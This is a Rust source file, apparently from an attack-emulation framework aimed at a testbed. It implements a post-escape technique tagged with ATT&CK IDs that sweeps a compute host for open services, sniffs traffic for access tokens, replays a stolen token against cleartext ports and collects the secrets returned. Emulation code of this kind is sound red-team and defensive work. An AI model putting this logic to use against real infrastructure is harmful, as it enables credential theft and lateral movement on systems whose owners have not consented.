//! From a compute host a guest broke out to: look around, listen, call what is open, use what was stolen
//! (T1611; then T1046, T1040, T1550.001).
//!
//! The break-out itself is the position the foothold is granted at. Steps run one after the other; the
//! segment is buffered from the start, so nothing is missed while the scan runs. Ends with the listening
//! time.

use testbed::foothold::{Foothold, Reach, Target};

use crate::{
    attack_ids::{ACCESS_TOKEN, ESCAPE_TO_HOST, SERVICE_DISCOVERY, SNIFFING},
    call::{self, Call},
    loot::{Attempt, Channel, Haul, Item, LootSink, Provenance, Step},
    parse::conversation::Heard,
    technique::{Description, Family, Need, Running, Technique},
    techniques::{
        overhear::{Ears, secrets},
        plan::Place,
        replay::Replay,
        scan::{Accepts, sweep},
    },
};

/// As the table lists it.
pub const DESCRIPTION: Description = Description {
    name: NAME,
    attack_id: ESCAPE_TO_HOST,
    further_ids: &[SERVICE_DISCOVERY, SNIFFING, ACCESS_TOKEN],
    family: Family::Escape,
    summary: "from an escaped guest: scan, sniff, call clear ports, replay a stolen token",
    needs: &[Need::Reach, Need::Sniffer, Need::Tls],
    prepare: |sink| Box::new(Escape::new(sink)),
};

const NAME: &str = "escape";

/// The technique.
pub struct Escape {
    sink: LootSink,
}

impl Escape {
    /// Shows its loot to a sink as it comes.
    pub fn new(sink: LootSink) -> Self {
        Self { sink }
    }
}

impl Technique for Escape {
    fn run(self: Box<Self>, mut foothold: Foothold) -> Running {
        Box::pin(async move {
            let mut haul = Haul::new(self.sink);
            let stop = foothold.stop().clone();
            let ahead = async {
                let open = sweep(NAME, &foothold, Accepts::Any, &mut haul).await;
                let doors = Doors { reach: foothold.reach().ok(), open };
                doors.knock(&mut haul).await;
                doors
            };
            let doors = stop.run_until_cancelled(ahead).await.unwrap_or_default();
            listen(&mut foothold, doors, &mut haul).await;
            haul.into_loot()
        })
    }
}

/// Sniffs until the end; acts once on the first token, and once on the first server.
async fn listen(foothold: &mut Foothold, doors: Doors, haul: &mut Haul) {
    let sniffing = Step { technique: NAME, attack_id: SNIFFING };
    let stop = foothold.stop().clone();
    let mut replay = Replay::new(NAME, foothold, haul);
    let Some(mut sniffer) = haul.granted(sniffing, foothold.sniffer()) else { return };
    let mut ears = Ears::new(sniffing);
    let mut called = false;
    while let Some(chunk) = sniffer.next().await {
        let (flow, at) = (Some(chunk.flow.id), Some(chunk.at));
        let place = Place { target: chunk.flow.to.clone(), channel: Channel::Clear, flow, at };
        for heard in ears.hear(&chunk, haul) {
            replay.learn(&heard, &place);
        }
        let act = async {
            if let Some(lead) = replay.plan().token().filter(|_| !called).cloned() {
                called = true;
                doors.enter(&lead.sighting.token, &lead.sighting.collection, &mut replay, haul).await;
            }
            replay.act(chunk.at, haul).await;
        };
        stop.run_until_cancelled(act).await;
    }
    ears.finish(haul);
}

/// Ports that served a stranger in clear.
#[derive(Default)]
struct Doors {
    reach: Option<Reach>,
    open: Vec<Target>,
}

impl Doors {
    /// Asks each for what it tells anybody.
    async fn knock(&self, haul: &mut Haul) {
        let step = Step { technique: NAME, attack_id: ESCAPE_TO_HOST };
        for target in &self.open {
            self.ask(target, Call { method: "GET", path: "/v3", token: None }, step, haul).await;
        }
    }

    /// Asks each for the servers of a stolen token's owner.
    async fn enter(&self, token: &str, collection: &str, replay: &mut Replay, haul: &mut Haul) {
        let step = Step { technique: NAME, attack_id: ACCESS_TOKEN };
        let path = format!("{collection}/detail");
        for target in &self.open {
            let call = Call { method: "GET", path: &path, token: Some(token) };
            let Some(heard) = self.ask(target, call, step, haul).await else { continue };
            for item in secrets(&heard, step, None, None) {
                haul.take(item);
            }
            let place = Place { target: target.clone(), channel: Channel::Clear, flow: None, at: None };
            replay.learn(&heard, &place);
        }
    }

    /// One call, noted; returns what there is to hear in the answer.
    async fn ask(&self, target: &Target, call: Call<'_>, step: Step, haul: &mut Haul) -> Option<Heard> {
        let reply = call::call(self.reach.as_ref()?, None, target, call).await;
        let where_found = call.line(Channel::Clear);
        haul.take(Item::Attempt(Attempt {
            target: target.id,
            label: target.label.clone(),
            attempt: where_found.clone(),
            channel: Channel::Clear,
            served: reply.served(),
            answer: reply.answer.clone(),
            provenance: Provenance { step, flow: None, at: None, where_found },
        }));
        if reply.served() { call::overheard(call, target, reply) } else { None }
    }
}
